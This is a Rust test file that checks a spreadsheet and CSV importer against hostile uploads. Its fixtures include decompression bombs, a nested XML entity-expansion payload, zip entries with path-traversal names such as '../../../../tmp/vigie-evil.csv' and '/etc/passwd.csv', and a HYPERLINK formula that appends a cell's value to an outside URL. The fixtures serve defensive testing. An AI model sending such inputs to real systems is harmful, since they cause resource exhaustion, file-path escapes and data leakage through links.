//! Files made to harm: each is refused in time with a reason that a person can act on, or read for
//! what it honestly holds.

use std::fmt::Write as _;
use std::io::{Cursor, Write as _};
use std::time::{Duration, Instant};

use flate2::Compression;
use flate2::write::GzEncoder;
use rust_xlsxwriter::{Formula, Workbook};
use vigie::import::limits::MAX_CELL_BYTES;
use vigie::import::{ImportError, Inspection, inspect};
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

/// No hostile file may take longer, in this unoptimised build on a busy machine.
const IN_TIME: Duration = Duration::from_secs(20);

#[expect(clippy::panic_in_result_fn, reason = "a test looks at its own time")]
fn look(bytes: &[u8]) -> Result<Inspection, ImportError> {
    let start = Instant::now();
    let looked = inspect("fichier.csv", bytes);
    assert!(start.elapsed() < IN_TIME, "{:?}", start.elapsed());
    looked
}

#[track_caller]
fn refused(bytes: &[u8], code: &str) {
    let error = look(bytes).unwrap_err();
    let issue = &error.issues()[0];
    assert_eq!(issue.code, code, "{}", issue.message);
    assert!(!issue.remedy.is_empty());
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in members {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        zip.write_all(content).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// The least that makes a workbook, around one sheet and its shared texts.
fn xlsx(sheet: &[u8], texts: &[u8]) -> Vec<u8> {
    const TYPES: &[u8] = br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>"#;
    const ROOT: &[u8] = br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
    const BOOK: &[u8] = br#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="F" sheetId="1" r:id="rId1"/></sheets></workbook>"#;
    const PARTS: &[u8] = br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;
    zip(&[
        ("[Content_Types].xml", TYPES),
        ("_rels/.rels", ROOT),
        ("xl/workbook.xml", BOOK),
        ("xl/_rels/workbook.xml.rels", PARTS),
        ("xl/sharedStrings.xml", texts),
        ("xl/worksheets/sheet1.xml", sheet),
    ])
}

const NO_TEXT: &[u8] = br#"<?xml version="1.0"?><sst count="0" uniqueCount="0"></sst>"#;

fn sheet_of(rows: &str) -> Vec<u8> {
    format!("<?xml version=\"1.0\"?><worksheet><sheetData>{rows}</sheetData></worksheet>")
        .into_bytes()
}

const TWO_ROWS: &str = r#"<row r="1"><c r="A1" t="inlineStr"><is><t>nom</t></is></c><c r="B1" t="inlineStr"><is><t>etp</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>A</t></is></c><c r="B2"><v>0.30000000000000004</v></c></row>"#;

fn ods(content: &str) -> Vec<u8> {
    let content = format!(
        "<?xml version=\"1.0\"?><office:document-content><office:body><office:spreadsheet>{content}</office:spreadsheet></office:body></office:document-content>"
    );
    zip(&[
        (
            "mimetype",
            b"application/vnd.oasis.opendocument.spreadsheet",
        ),
        ("content.xml", content.as_bytes()),
    ])
}

#[test]
fn decompression_bombs_are_stopped() {
    let zeros = vec![b'0'; 48 * 1024 * 1024];
    refused(&gzip(&zeros), "FILE-015");
    refused(&zip(&[("a.csv", &zeros)]), "FILE-015");
    refused(&xlsx(&zeros, NO_TEXT), "FILE-015");
    refused(&xlsx(&sheet_of(TWO_ROWS), &zeros), "FILE-015");
    let nested = gzip(&gzip(&gzip(b"a;b\n1;2\n")));
    refused(&nested, "FILE-003");
}

#[test]
fn workbooks_that_claim_or_repeat_more_than_they_hold_are_refused() {
    let claim = br#"<?xml version="1.0"?><sst count="9" uniqueCount="99999999999"></sst>"#;
    refused(&xlsx(&sheet_of(TWO_ROWS), claim), "FILE-014");
    let text = "x".repeat(900_000);
    let texts =
        format!("<?xml version=\"1.0\"?><sst uniqueCount=\"1\"><si><t>{text}</t></si></sst>");
    let cells = (1..2000)
        .map(|row| format!("<row r=\"{row}\"><c r=\"A{row}\" t=\"s\"><v>0</v></c></row>"))
        .collect::<Vec<_>>()
        .concat();
    refused(&xlsx(&sheet_of(&cells), texts.as_bytes()), "FILE-015");
    let repeated = r#"<table:table table:name="F"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row></table:table>"#;
    refused(&ods(repeated), "FILE-015");
}

#[test]
fn honest_workbooks_of_hostile_shape_are_read() {
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.write(0, 0, "nom").unwrap();
    sheet.write(1_048_575, 16_383, "loin").unwrap();
    let looked = look(&workbook.save_to_buffer().unwrap()).unwrap();
    assert_eq!(
        (looked.detected.container.as_str(), looked.detected.records),
        ("xlsx", 1)
    );
    let padded = r#"<table:table table:name="F"><table:table-row><table:table-cell office:value-type="string"><text:p>nom</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>part</text:p></table:table-cell><table:table-cell table:number-columns-repeated="16382"/></table:table-row><table:table-row><table:table-cell office:value-type="string"><text:p>A</text:p><office:annotation><text:p>note</text:p></office:annotation></table:table-cell><table:table-cell office:value-type="percentage" office:value="0.45"><text:p>45 %</text:p></table:table-cell></table:table-row><table:table-row table:number-rows-repeated="1048574"><table:table-cell table:number-columns-repeated="16384"/></table:table-row></table:table>"#;
    let looked = look(&ods(padded)).unwrap();
    assert_eq!(looked.detected.columns, ["nom", "part"]);
    assert_eq!(
        (looked.detected.sheet.as_deref(), looked.detected.records),
        (Some("F"), 1)
    );
}

#[test]
fn entities_are_not_expanded() {
    let mut declared = "<!ENTITY a0 \"lol\">".to_owned();
    for rank in 1..12 {
        let inside = format!("&a{};", rank - 1).repeat(10);
        write!(declared, "<!ENTITY a{rank} \"{inside}\">").unwrap();
    }
    let texts = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE sst [{declared}]><sst uniqueCount=\"1\"><si><t>&a11;</t></si></sst>"
    );
    let rows = TWO_ROWS.replace("</row>", "<c r=\"C1\" t=\"s\"><v>0</v></c></row>");
    if let Ok(looked) = look(&xlsx(&sheet_of(&rows), texts.as_bytes())) {
        assert!(
            looked
                .detected
                .columns
                .iter()
                .all(|column| column.len() < 100)
        );
    }
    let table = format!(
        "<!DOCTYPE x [{declared}]>{}",
        r#"<table:table table:name="F"><table:table-row><table:table-cell office:value-type="string"><text:p>a&a11;b</text:p></table:table-cell></table:table-row><table:table-row><table:table-cell office:value-type="float" office:value="1"/></table:table-row></table:table>"#
    );
    if let Ok(looked) = look(&ods(&table)) {
        assert!(
            looked
                .detected
                .columns
                .iter()
                .all(|column| column.len() < 100)
        );
    }
}

#[test]
fn truncated_files_are_refused_wherever_they_are_cut() {
    let book = xlsx(&sheet_of(TWO_ROWS), NO_TEXT);
    assert_eq!(look(&book).unwrap().detected.records, 1);
    let spread = ods(
        r#"<table:table table:name="F"><table:table-row><table:table-cell office:value-type="float" office:value="1"/></table:table-row></table:table>"#,
    );
    for (bytes, code) in [
        (
            gzip("nom;ville\nA;Nantes\n".repeat(300).as_bytes()),
            "FILE-014",
        ),
        (zip(&[("a.csv", b"nom;ville\nA;Nantes\n")]), "FILE-014"),
        (book, "FILE-014"),
        (spread, "FILE-014"),
    ] {
        for tenths in [3, 6, 9] {
            refused(&bytes[..bytes.len() * tenths / 10], code);
        }
    }
    let open = ods("").len();
    assert!(open > 0);
    let unclosed = zip(&[
        (
            "mimetype",
            b"application/vnd.oasis.opendocument.spreadsheet",
        ),
        (
            "content.xml",
            b"<office:spreadsheet><table:table table:name=\"F\"><table:table-row>",
        ),
    ]);
    refused(&unclosed, "FILE-014");
}

#[test]
fn names_that_point_elsewhere_are_only_names() {
    for name in [
        "../../../../tmp/vigie-evil.csv",
        "/etc/passwd.csv",
        "C:\\evil.csv",
        "a/../../b.csv",
    ] {
        let looked = look(&zip(&[(name, b"nom;ville\nA;Nantes\n")])).unwrap();
        assert_eq!(looked.detected.container, "zip+csv");
    }
    assert!(!std::path::Path::new("/tmp/vigie-evil.csv").exists());
    refused(
        &zip(&[("a.csv", b"a;b\n1;2\n"), ("b.csv", b"a;b\n1;2\n")]),
        "FILE-003",
    );
    refused(&zip(&[("a.bin", b"1"), ("b.bin", b"2")]), "FILE-003");
}

#[test]
fn a_million_columns_and_a_cell_of_100_megabytes_are_refused_with_their_line() {
    let wide = [
        "nom".to_owned(),
        ";x".repeat(1_000_000),
        "\n1;2\n".to_owned(),
    ]
    .concat();
    refused(wide.as_bytes(), "FILE-015");
    let long = [
        "nom;ville\nA;\"".to_owned(),
        "x".repeat(100 * 1024 * 1024),
        "\"\n".to_owned(),
    ]
    .concat();
    let error = look(long.as_bytes()).unwrap_err();
    assert_eq!(
        (error.issues()[0].code.as_str(), error.issues()[0].row),
        ("FILE-015", Some(2))
    );
    assert!(
        error.issues()[0]
            .message
            .contains(&MAX_CELL_BYTES.to_string())
    );
}

#[test]
fn formulas_are_text_or_their_result_and_never_computed() {
    let link = "=HYPERLINK(\"http://exemple.fr/?\"&A1;\"cliquez\")";
    let csv = format!("nom\tlien\nA\t\"{}\"\n", link.replace('"', "\"\""));
    assert_eq!(look(csv.as_bytes()).unwrap().detected.records, 1);
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    for (column, text) in ["nom", "somme"].into_iter().enumerate() {
        sheet
            .write(0, u16::try_from(column).unwrap(), text)
            .unwrap();
    }
    sheet.write(1, 0, "A").unwrap();
    sheet
        .write_formula(1, 1, Formula::new("=1+1").set_result("7"))
        .unwrap();
    let catalogue =
        vigie::catalogue::Catalogue::load(&vigie::catalogue::source::DefinitionFiles::embedded())
            .unwrap();
    let bytes = workbook.save_to_buffer().unwrap();
    let read = vigie::import::sheet_of(&bytes, None, &catalogue.dictionary).unwrap();
    assert_eq!(read.rows[0].cells, ["A", "7"]);
}
